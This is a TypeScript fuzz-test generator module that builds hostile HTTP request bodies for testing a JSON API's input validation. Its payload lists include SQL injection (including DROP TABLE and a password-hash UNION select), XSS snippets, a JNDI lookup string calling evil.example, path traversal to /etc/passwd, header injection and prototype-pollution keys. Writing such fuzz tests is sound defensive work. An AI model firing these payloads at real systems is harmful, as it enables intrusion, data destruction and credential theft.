import fc from 'fast-check';

/**
 * Generators of hostile HTTP input for the fuzz tests: wrong types, huge and strange strings,
 * prototype-pollution keys, SQL and script fragments, broken JSON and odd encodings.
 */

/** Fragments aimed at SQL, HTML, templates, paths, formats and parsers. */
export const HOSTILE_FRAGMENTS = [
  "' OR '1'='1",
  "'; DROP TABLE users; --",
  '" OR ""="',
  '1; SELECT pg_sleep(5)',
  "') UNION SELECT password_hash FROM users --",
  '\\x27',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  'javascript:alert(1)',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '#{7*7}',
  '../../../../etc/passwd',
  '..%2f..%2f..%2fetc%2fpasswd',
  '%00',
  '%s%s%s%n',
  'null',
  'undefined',
  'NaN',
  '-1',
  '1e309',
  '9007199254740993',
  'true',
  '[]',
  '{}',
  '__proto__',
  'constructor',
  '\r\nSet-Cookie: injected=1',
] as const;

/** Strings that only a careful parser survives: controls, lone surrogates, BOMs, RTL, emoji. */
export const UNICODE_FRAGMENTS = [
  '\u0000',
  '\uD800',
  '\uDFFF',
  '\uFEFF',
  '\u202Eevil',
  '\u0130\u0131',
  'ǅ',
  'ﬃ',
  'e\u0301',
  '𝔘𝔫𝔦𝔠𝔬𝔡𝔢',
  '🏦💸👩‍👩‍👧',
  '\u2028\u2029',
  '\u00A0',
  '１２３４５６',
] as const;

export const POLLUTION_KEYS = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'valueOf',
  'hasOwnProperty',
  '__defineGetter__',
  'isAdmin',
] as const;

/** A huge string: far beyond any field's maximum, still under the 1 MB body limit. */
const hugeString = fc
  .tuple(fc.constantFrom('A', '😀', "'", '<', '\u0000'), fc.integer({ min: 300, max: 40_000 }))
  .map(([unit, times]) => unit.repeat(times));

export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { arbitrary: fc.constantFrom(...HOSTILE_FRAGMENTS), weight: 4 },
  { arbitrary: fc.constantFrom(...UNICODE_FRAGMENTS), weight: 2 },
  { arbitrary: fc.string({ unit: 'binary', maxLength: 40 }), weight: 3 },
  { arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }), weight: 2 },
  { arbitrary: hugeString, weight: 1 },
);

/** Printable ASCII only: what an HTTP header or a raw query string can carry. */
export const hostileAscii: fc.Arbitrary<string> = fc.oneof(
  {
    arbitrary: fc.constantFrom(...HOSTILE_FRAGMENTS.filter((text) => /^[\x20-\x7e]*$/.test(text))),
    weight: 3,
  },
  { arbitrary: fc.string({ unit: 'grapheme-ascii', maxLength: 60 }), weight: 3 },
  {
    arbitrary: fc.integer({ min: 200, max: 4_000 }).map((times) => 'A'.repeat(times)),
    weight: 1,
  },
);

/**
 * A JSON value as text-to-be: objects keep their keys as pairs, so that `__proto__` and
 * duplicate keys reach the wire as written (a JavaScript object would swallow them).
 */
export type Json = string | number | boolean | null | Json[] | { pairs: [string, Json][] };

export function toJsonText(value: Json): string {
  if (Array.isArray(value)) return `[${value.map(toJsonText).join(',')}]`;
  if (value !== null && typeof value === 'object') {
    return `{${value.pairs.map(([key, item]) => `${JSON.stringify(key)}:${toJsonText(item)}`).join(',')}}`;
  }
  // JSON has no NaN or Infinity: what a client could send instead is null or a huge literal.
  if (typeof value === 'number' && !Number.isFinite(value)) return '1e999';
  return JSON.stringify(value);
}

export function fromPlain(value: unknown): Json {
  if (Array.isArray(value)) return value.map(fromPlain);
  if (value !== null && typeof value === 'object') {
    return { pairs: Object.entries(value).map(([key, item]) => [key, fromPlain(item)]) };
  }
  if (value === undefined) return null;
  return value as Json;
}

export const hostileKey: fc.Arbitrary<string> = fc.oneof(
  { arbitrary: fc.constantFrom(...POLLUTION_KEYS), weight: 3 },
  { arbitrary: hostileString.filter((key) => key.length < 200), weight: 2 },
);

const number = fc.oneof(
  fc.integer(),
  fc.double(),
  fc.constantFrom(0, -0, -1, 2 ** 53 + 1, Number.MAX_VALUE, Number.MIN_VALUE, Infinity),
);

export const { json: hostileJson } = fc.letrec<{ json: Json }>((tie) => ({
  json: fc.oneof(
    { depthSize: 'small', maxDepth: 4 },
    hostileString,
    number,
    fc.boolean(),
    fc.constant(null),
    fc.array(tie('json'), { maxLength: 4 }),
    fc.array(fc.tuple(hostileKey, tie('json')), { maxLength: 4 }).map((pairs): Json => ({ pairs })),
  ),
}));

/** Any JSON value that is not an object: no endpoint here takes one as its body. */
export const nonObjectJson = hostileJson.filter(
  (value) => value === null || typeof value !== 'object' || Array.isArray(value),
);

/** The kind of value a required field holds; its breakage is a value of any other kind. */
export type FieldKind = 'string' | 'boolean' | 'object' | 'array';

function kindOf(value: Json): FieldKind | 'number' | 'null' {
  if (value === null) return 'null';
  if (Array.isArray(value)) return 'array';
  if (typeof value === 'object') return 'object';
  return typeof value as 'string' | 'number' | 'boolean';
}

/** A field the request cannot do without: removing it, or giving it another kind, is refused. */
export interface RequiredField {
  path: string[];
  kind: FieldKind;
  /** The field may be left out: it is only ever sent of the wrong kind. */
  optional?: boolean;
}

function update(value: Json, path: string[], change: (found: Json) => Json | undefined): Json {
  if (path.length === 0) return change(value) ?? null;
  if (value === null || typeof value !== 'object' || Array.isArray(value)) return value;
  const [head, ...rest] = path;
  const pairs = value.pairs.flatMap(([key, item]): [string, Json][] => {
    if (key !== head) return [[key, item]];
    if (rest.length > 0) return [[key, update(item, rest, change)]];
    const changed = change(item);
    return changed === undefined ? [] : [[key, changed]];
  });
  return { pairs };
}

/** Every string in the template, by path: where hostile strings go while a field is broken. */
function stringPaths(value: Json, prefix: string[] = []): string[][] {
  if (typeof value === 'string') return [prefix];
  if (value === null || typeof value !== 'object' || Array.isArray(value)) return [];
  return value.pairs.flatMap(([key, item]) => stringPaths(item, [...prefix, key]));
}

/** Adds a pollution key with a value at the top of an object body. */
function polluted(value: Json, key: string, payload: Json): Json {
  if (value === null || typeof value !== 'object' || Array.isArray(value)) return value;
  return { pairs: [[key, payload], ...value.pairs] };
}

/**
 * A valid request body broken in at least one required field (removed, or of another kind),
 * with hostile strings in the other string fields and sometimes a pollution key on top: the
 * server must refuse it whole, so nothing it holds may change.
 */
export function brokenBody(template: object, required: RequiredField[]): fc.Arbitrary<Json> {
  const base = fromPlain(template);
  const others = stringPaths(base);
  return fc
    .record({
      field: fc.constantFrom(...required),
      replacement: fc.option(hostileJson, { nil: undefined, freq: 3 }),
      strings: fc.array(
        fc.tuple(fc.constantFrom(...(others.length ? others : [[]])), hostileString),
        {
          maxLength: 3,
        },
      ),
      pollution: fc.option(fc.tuple(fc.constantFrom(...POLLUTION_KEYS), hostileJson), {
        nil: undefined,
      }),
    })
    .filter(({ field, replacement }) =>
      replacement === undefined ? !field.optional : kindOf(replacement) !== field.kind,
    )
    .map(({ field, replacement, strings, pollution }) => {
      let body = base;
      for (const [path, text] of strings) {
        if (path.length > 0) body = update(body, path, () => text);
      }
      body = update(body, field.path, () => replacement);
      return pollution ? polluted(body, pollution[0], pollution[1]) : body;
    });
}

/** An object of hostile keys that lacks every required field. */
export function strangerObject(required: RequiredField[]): fc.Arbitrary<Json> {
  const names = new Set(required.map((field) => field.path[0]));
  return fc
    .array(fc.tuple(hostileKey, hostileJson), { minLength: 1, maxLength: 6 })
    .map((pairs): Json => ({ pairs: pairs.filter(([key]) => !names.has(key)) }));
}

/** Text that is not JSON at all, or JSON cut short, or JSON with traps in it. */
export const notJsonText: fc.Arbitrary<string> = fc.oneof(
  fc.string({ unit: 'binary', maxLength: 60 }),
  fc.constantFrom(
    '',
    '{',
    '{"a":',
    '[1,2',
    '{"a":1}}',
    "{'single':'quotes'}",
    '{"a":01}',
    '{"a":NaN}',
    '{"a":undefined}',
    '\uFEFF{',
    '{"__proto__":{"isAdmin":true}}',
    '{"constructor":{"prototype":{"isAdmin":true}}}',
    '{"a":1,"a":2}',
    '1'.repeat(5000),
    '['.repeat(5000),
    '{"a":'.repeat(2000),
  ),
);

/** A request body as sent: its text and content type. */
export interface BodyText {
  payload: string;
  contentType: string | undefined;
}

const JSON_TYPE = 'application/json';
const contentTypes = fc.oneof(
  { arbitrary: fc.constant(JSON_TYPE), weight: 12 },
  {
    arbitrary: fc.constantFrom(
      'application/json; charset=utf-8',
      'application/json; charset=utf-16',
      'APPLICATION/JSON',
      'text/plain',
      'application/x-www-form-urlencoded',
      'multipart/form-data; boundary=x',
      'application/xml',
      'application/vnd.anybank.submitIdentifier+json',
      'application/scim+json',
      '*/*',
      'json',
      undefined,
    ),
    weight: 3,
  },
  { arbitrary: hostileAscii, weight: 1 },
);

/** Bodies a JSON endpoint must refuse: a broken template, a stranger object, non-objects, non-JSON. */
export function refusedJsonBody(
  template: object,
  required: RequiredField[],
): fc.Arbitrary<BodyText> {
  const json = fc.oneof(
    { arbitrary: brokenBody(template, required), weight: 6 },
    { arbitrary: strangerObject(required), weight: 2 },
    { arbitrary: nonObjectJson, weight: 2 },
  );
  return fc.oneof(
    {
      arbitrary: fc.tuple(json, contentTypes).map(([value, contentType]) => ({
        payload: toJsonText(value),
        contentType,
      })),
      weight: 9,
    },
    {
      arbitrary: fc.tuple(notJsonText, contentTypes).map(([payload, contentType]) => ({
        payload,
        contentType,
      })),
      weight: 2,
    },
  );
}

/** Any body at all, for endpoints whose refusal does not depend on the body. */
export const anyJsonBody: fc.Arbitrary<BodyText> = fc.oneof(
  fc.tuple(hostileJson, contentTypes).map(([value, contentType]) => ({
    payload: toJsonText(value),
    contentType,
  })),
  fc.tuple(notJsonText, contentTypes).map(([payload, contentType]) => ({ payload, contentType })),
);
